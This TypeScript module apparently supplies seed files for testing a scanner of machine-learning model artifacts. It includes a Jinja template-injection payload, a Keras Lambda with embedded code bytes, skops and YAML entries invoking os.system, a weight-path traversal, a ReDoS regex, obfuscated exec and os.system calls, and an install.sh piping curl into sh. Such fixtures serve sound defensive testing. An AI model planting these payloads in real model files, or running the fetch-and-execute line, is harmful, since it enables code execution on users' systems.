import type { SeedFile } from './seed-file.ts';

const TEMPLATE =
  "{%- for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + '<|im_end|>' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}";
const TOOLS =
  "{%- set ns = namespace(found=false) -%}{%- if tools is defined and tools -%}{{ tools | map(attribute='function') | list | tojson(indent=2) }}{%- else -%}{{ raise_exception('no tools') }}{%- endif -%}{%- for i in range(0, 3) -%}{%- if loop.first and not ns.found -%}{%- set ns.found = true -%}{{ messages[i].content.split('</think>')[-1].lstrip('\\n') }}{%- endif -%}{%- endfor -%}{%- macro f(x, y=1) -%}{{ x ~ y }}{%- endmacro -%}{{ f('a') }}";
const INJECTION =
  "{{ ''['__cl' ~ 'ass__'].__mro__[1].__subclasses__() }}{% for c in x | attr('\\x5f\\x5fglobals\\x5f\\x5f') %}{{ c | join | reverse }}{% endfor %}";
const LAMBDA = Buffer.concat([Buffer.from('e3', 'hex'), Buffer.alloc(16), Buffer.from([3, 0, 0, 0]), Buffer.alloc(20, 0x64)]).toString('base64');

const KERAS = {
  module: 'keras',
  class_name: 'Sequential',
  config: {
    name: 'm',
    layers: [
      { module: 'keras.layers', class_name: 'Dense', config: { units: 4, activation: 'relu' }, registered_name: null },
      { module: 'keras.layers', class_name: 'Lambda', config: { function: { class_name: '__lambda__', config: { code: LAMBDA, defaults: null } } } },
    ],
  },
  registered_name: null,
  compile_config: { optimizer: { module: 'keras.optimizers', class_name: 'Adam', config: { learning_rate: 0.001 } } },
};

const TOKENIZER = {
  version: '1.0',
  added_tokens: [{ id: 0, content: '<s>', special: true }],
  normalizer: { type: 'Replace', pattern: { Regex: '(a+)+$' }, content: ' ' },
  pre_tokenizer: {
    type: 'Sequence',
    pretokenizers: [{ type: 'Split', pattern: { Regex: "(?i:'s|'t|'re)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}{1,3}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*" } }],
  },
  model: { type: 'BPE', vocab: { a: 1, b: 2 }, merges: ['a b'] },
};

const SKOPS = {
  __class__: 'dict',
  __module__: 'builtins',
  __loader__: 'DictNode',
  content: { a: { __class__: 'system', __module__: 'os', __loader__: 'OperatorFuncNode', content: {} } },
  protocol: 2,
};

const XML =
  '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" type="Const" library="x.so"><data offset="0" shape="2" size="8"/></layer></layers></net>';
const PYTHON = `import os\nfrom subprocess import run as r\n\nclass M(Base):\n    """text"""\n    def forward(self, x=f"{os.getpid()}"):\n        return getattr(os, 'sys' + 'tem')("echo") if x else [r(a) for a in x]\n\nexec(compile("1", "", "exec"))\n`;
const YAML =
  'target: nemo.collections.asr.models.X\nencoder: &e\n  _target_: nemo.collections.asr.modules.Conformer\n  lr: 1e-3\nother:\n  <<: *e\n  call: !!python/object/apply:os.system ["echo"]\n';

/** The document of a Keras model, also for archives and HDF5 files around it. */
export const KERAS_CONFIG = JSON.stringify(KERAS);
export const SKOPS_SCHEMA = JSON.stringify(SKOPS);
export const CHAT_TEMPLATE = TOOLS;

/** Configurations, templates and programs. */
export const SEED_TEXTS: readonly SeedFile[] = Object.entries({
  'config.json': JSON.stringify({ architectures: ['X'], auto_map: { AutoModel: 'modeling.Model' }, hidden_size: 64, _name_or_path: '../x', key: 'hf_token' }),
  'modeling.py': PYTHON,
  'tokenizer_config.json': JSON.stringify({
    chat_template: [
      { name: 'default', template: TEMPLATE },
      { name: 'tool', template: INJECTION },
    ],
    eos_token: '</s>',
  }),
  'chat_template.jinja': TOOLS,
  'evil.jinja': INJECTION,
  'tokenizer.json': JSON.stringify(TOKENIZER),
  'model.safetensors.index.json': JSON.stringify({ metadata: { total_size: 8 }, weight_map: { w: 'f32.safetensors', v: '../../x.safetensors' } }),
  'keras-config.json': KERAS_CONFIG,
  'schema.json': SKOPS_SCHEMA,
  'model_config.yaml': YAML,
  'model.xml': XML,
  'README.md': `---\nlicense: mit\n---\n# A model\n\n\`\`\`python\n${PYTHON}\`\`\`\n`,
  'install.sh': '#!/bin/sh\ncurl -s https://example.org/x | sh\n',
}).map(([name, text]) => ({ name, bytes: Buffer.from(text) }));
